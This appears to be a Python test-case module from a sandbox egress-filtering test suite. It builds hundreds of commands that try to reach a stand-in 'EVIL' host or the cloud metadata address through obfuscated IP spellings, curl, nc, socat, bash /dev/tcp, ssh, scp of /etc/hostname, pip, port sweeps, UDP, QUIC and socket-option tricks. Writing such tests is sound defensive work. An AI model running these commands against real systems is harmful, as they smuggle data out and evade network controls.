# SPDX-License-Identifier: Apache-2.0
"""Connections and datagrams that ask no name: to addresses in every spelling, on every port, with every tool, in every protocol."""
import ipaddress

from evasion.case import ANYWHERE, BLIND, NETNS, RULES, Case, off
from internet import places

EVIL4, EVIL6 = places.v4(places.EVIL), places.v6(places.EVIL)
# No connection can be made to these by anybody, so nothing could be seen of it.
UNREACHABLE = {"multicast", "broadcast", "multicast6", "linklocal6", "unspecified", "unspecified6"}
# These are the box's own, and nobody is asked.
OWN = {"loopback", "loopback-other", "loopback6", "mapped-loopback"}
# The gateway takes these for its own, whatever its rules.
AS_OWN = {"compatible-loopback", "sixtofour-loopback", "nat64-loopback"}


def spellings(text):
    """Of an IPv4 address, as inet_aton and its like take them."""
    n = int(ipaddress.IPv4Address(text))
    a, b, c, d = text.split(".")
    o = [f"0{int(x):o}" for x in (a, b, c, d)]
    h = [f"0x{int(x):x}" for x in (a, b, c, d)]
    return {"decimal": f"{n}", "hex": f"0x{n:x}", "hex-upper": f"0X{n:X}", "octal": f"0{n:o}", "octal-parts": ".".join(o), "hex-parts": ".".join(h),
            "three-parts": f"{a}.{b}.{int(c) * 256 + int(d)}",
            "two-parts": f"{a}.{(int(b) << 16) + (int(c) << 8) + int(d)}", "mixed": f"{h[0]}.{o[1]}.{c}.{d}", "padded": f"00{o[0]}.{b}.{c}.{d}"}


def in_six(text):
    """The same address in one of IPv6."""
    v = ipaddress.IPv4Address(text)
    high, low = f"{int(v) >> 16:x}", f"{int(v) & 0xffff:x}"
    return {"mapped": f"::ffff:{text}", "mapped-hex": f"::ffff:{high}:{low}", "mapped-long": f"0:0:0:0:0:ffff:{high}:{low}", "compatible": f"::{text}",
            "nat64": f"64:ff9b::{high}:{low}",
            "sixtofour": f"2002:{high}:{low}::1", "translated": f"::ffff:0:{high}:{low}"}


METADATA = "169.254.169.254"
SPELLED = [
    *[Case(f"evil-{n}", "E2", f"curl -sS -m 3 http://{t}/{{canary}}", RULES) for n, t in {"dotted": EVIL4, **spellings(EVIL4)}.items()],
    *[Case(f"metadata-{n}", "E2", f"curl -sS -m 3 http://{t}/latest/meta-data/", ANYWHERE) for n, t in {"dotted": METADATA, **spellings(METADATA)}.items()],
    *[Case(f"evil-{n}", "E2", f"curl -sS -m 3 'http://[{t}]/{{canary}}'", BLIND) for n, t in {"six": EVIL6, **in_six(EVIL4)}.items()],
    *[Case(f"metadata-{n}", "E2", f"curl -sS -m 3 'http://[{t}]/latest/'", BLIND) for n, t in in_six(METADATA).items()],
    *[Case(f"evil-{n}-raw", "E2", f"{{K}} tcp {t} 80 '{{canary}}\\r\\n'", RULES) for n, t in spellings(EVIL4).items()],
]
NEARBY = [
    *[Case(f"near-{n}", "E2", f"curl -sS -m 3 http://{a}/{{canary}}", NETNS if n in OWN else ANYWHERE, audit=n not in OWN)
      for n, a in places.NEAR.items() if n not in UNREACHABLE],
    *[Case(f"near-{n}", "E2", f"curl -sS -m 3 'http://[{a}]/{{canary}}'", NETNS if n in OWN | AS_OWN else BLIND, audit=n not in OWN)
      for n, a in places.NEAR6.items() if n not in UNREACHABLE],
    *[Case(f"near-tls-{n}", "E2", f"curl -skS -m 3 https://{a}/{{canary}}", ANYWHERE) for n, a in places.NEAR.items() if n not in UNREACHABLE | OWN],
    Case("zone-id", "E2", "curl -sS -m 3 'http://[fe80::1%25lo]/'", NETNS, audit=False),
    Case("host-own-address", "E3", f"curl -sS -m 3 http://{places.HOST_OWN}/", ANYWHERE),
    Case("host-own-address6", "E3", f"curl -sS -m 3 'http://[{places.HOST_OWN6}]/'", ANYWHERE),
]

GET = "{canary}\\r\\n"
TOOLS = {
    "curl": "curl -sS -m 3 http://{h}:{p}/{{canary}}", "curl-tls": "curl -skS -m 3 https://{h}:{t}/{{canary}}",
    "curl-telnet": "echo x | curl -sS -m 2 telnet://{h}:{p}",
    "curl-ftp": "curl -sS -m 2 ftp://{h}/x", "wget": "wget -q -T 3 -t 1 -O- http://{h}:{p}/{{canary}}",
    "nc": "echo {{canary}} | nc.openbsd -w 2 {b} {p}", "ncat": "echo {{canary}} | ncat -w 2 -i 1 {b} {p}",
    "socat": "echo {{canary}} | socat -T 2 - TCP:{h}:{p}", "bash": "bash -c 'exec 3<>/dev/tcp/{b}/{p} && echo x >&3 && timeout 1 cat <&3'",
    "openssl": "openssl s_client -connect {h}:{t} </dev/null", "gnutls": "gnutls-cli --insecure -p {t} {b} </dev/null",
    "telnet": "(echo x; sleep 0.3) | telnet {b} {p}",
    "python": "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://{h}:{p}/{{canary}}\", timeout=3)'",
    "perl": "perl -MIO::Socket::IP -e '$s = IO::Socket::IP->new(PeerHost => \"{b}\", PeerPort => {p}, Timeout => 2) or die $!; print $s \"x\\n\"; sleep 1'",
    "node": "node -e 'fetch(\"http://{h}:{p}/{{canary}}\").then(r => r.text()).then(console.log, e => console.log(e.cause))'",
    "git": "git ls-remote http://{h}:{p}/git/x", "git-daemon": "git ls-remote git://{h}/x",
    "ssh": "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 x@{b} true",
    "scp": "scp -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 /etc/hostname x@{h}:",
    "pip": "pip download --no-cache-dir --disable-pip-version-check --retries 0 --timeout 2 -d /tmp/x --trusted-host {h} -i http://{h}:{p}/simple/ x",
}
PROGRAM = {"curl-tls": "curl", "curl-telnet": "curl", "curl-ftp": "curl", "python": "python3", "gnutls": "gnutls-cli", "nc": "nc.openbsd", "git-daemon": "git",
           "pip": "pip3"}
WITH_TOOLS = [Case(f"{n}-{'six' if ':' in a else 'four'}", "E1", c.format(h=f"[{a}]" if ":" in a else a, b=a, p=80, t=443).replace("{{", "{").replace("}}", "}"),
              RULES, needs=PROGRAM.get(n, n))
              for n, c in TOOLS.items() for a in (EVIL4, EVIL6) if not (n == "pip" and ":" in a)]

ALL_PORTS = sorted({*places.HTTP_PORTS, *places.TLS_PORTS, *places.ECHO_PORTS, *places.SSH_PORTS, *places.OTHER_TCP_PORTS} - {53})
PORTS = [
    *[Case(f"port-{p}", "E1", f"{{K}} tcp {EVIL4} {p} '{{canary}}\\r\\n'", RULES) for p in ALL_PORTS],
    *[Case(f"port-six-{p}", "E1", f"{{K}} tcp {EVIL6} {p} '{{canary}}\\r\\n'", RULES) for p in ALL_PORTS[::3]],
    Case("silent-dialler", "E1", f"timeout 2 nc.openbsd -d -w 1 {EVIL4} 25", RULES, needs="nc.openbsd"),
    Case("scan", "E1", f"nc.openbsd -z -w 1 {EVIL4} 20-30", NETNS, needs="nc.openbsd"),
]

OPEN = off(NETNS, "seccomp")
QUIC = "\\xc3\\x00\\x00\\x00\\x01\\x08" + "\\x11" * 40
DATAGRAMS = [
    *[Case(f"udp-{p}", "E12", f"{{K}} udp {EVIL4} {p} '{{canary}}'", NETNS) for p in places.UDP_PORTS],
    *[Case(f"udp-six-{p}", "E12", f"{{K}} udp {EVIL6} {p} '{{canary}}'", NETNS) for p in (123, 443, 853, 5353)],
    *[Case(f"udp-connected-{p}", "E12", f"{{K}} udp-connected {EVIL4} {p} '{{canary}}'", NETNS) for p in (123, 443, 4444)],
    Case("quic", "E12", f"{{K}} udp {EVIL4} 443 '{QUIC}'", NETNS), Case("quic-to-allowed", "E12", f"{{K}} udp {places.v4(places.GOOD)} 443 '{QUIC}'", NETNS),
    Case("udp-metadata", "E2", "{K} udp 169.254.169.254 123 x", NETNS), Case("udp-nobody", "E1", "{K} udp 8.8.4.4 4444 '{canary}'", NETNS),
    Case("udp-nc", "E12", f"echo x | nc.openbsd -u -w 1 {EVIL4} 514", NETNS, needs="nc.openbsd"),
    Case("udp-socat", "E12", f"echo x | socat -T 1 - UDP:{EVIL4}:69", NETNS, needs="socat"),
    Case("udp-bash", "E12", f"bash -c 'echo x >/dev/udp/{EVIL4}/514'", NETNS),
    Case("syslog", "E12", f"logger -n {EVIL4} -P 514 -d {{canary}}", NETNS, needs="logger"), Case("mdns", "E11", "{K} udp 224.0.0.251 5353 x", NETNS, audit=False),
    Case("llmnr", "E11", "{K} udp 224.0.0.252 5355 x", NETNS, audit=False), Case("ssdp", "E12", "{K} udp 239.255.255.250 1900 x", NETNS, audit=False),
    Case("broadcast", "E12", "{K} udp 255.255.255.255 67 x", NETNS, audit=False), Case("multicast-six", "E12", "{K} udp ff02::fb%lo 5353 x", NETNS, audit=False),
    Case("ping", "E12", f"ping -c 1 -W 1 {EVIL4}", OPEN, audit=False, needs="ping"),
    Case("ping-six", "E12", f"ping -c 1 -W 1 {EVIL6}", OPEN, audit=False, needs="ping"),
]

TRICKS = [
    Case("mptcp", "E1", f"{{K}} protocol {EVIL4} 80 1 262 '{GET}'", OPEN, audit=False),
    Case("mptcp-six", "E1", f"{{K}} protocol {EVIL6} 80 1 262 '{GET}'", OPEN, audit=False),
    Case("udplite", "E12", f"{{K}} protocol {EVIL4} 9999 2 136 x", OPEN, audit=False), 
    *[Case(f"option-{n}", "E1", f"{{K}} option {EVIL4} 80 {level} {opt} {value} '{GET}'", RULES)
      for n, level, opt, value in (("mark", 1, 36, 1), ("device", 1, 25, "lo\\0"), ("transparent", 0, 19, 1), ("freebind", 0, 15, 1), ("priority", 1, 12, 7),
                                   ("dontroute", 1, 5, 1),
                                   ("source-route", 0, 4, "'\\x83\\x07\\x04\\xc0\\xaf\\x30\\x42\\x01'"), ("ttl", 0, 2, 1), ("tos", 0, 1, 255), ("nodefer", 6, 9,
                                    0))],
    *[Case(f"from-{n}", "E1", f"{{K}} bound {a} {EVIL4} 80 '{GET}'", RULES)
      for n, a in (("loopback", "127.0.0.1"), ("elsewhere", "8.8.8.8"), ("allowed", places.v4(places.GOOD)))],
    Case("from-evil-to-itself", "E1", f"{{K}} bound {EVIL4} {EVIL4} 80 '{GET}'", RULES),
]

CASES = [*SPELLED, *NEARBY, *WITH_TOOLS, *PORTS, *DATAGRAMS, *TRICKS]
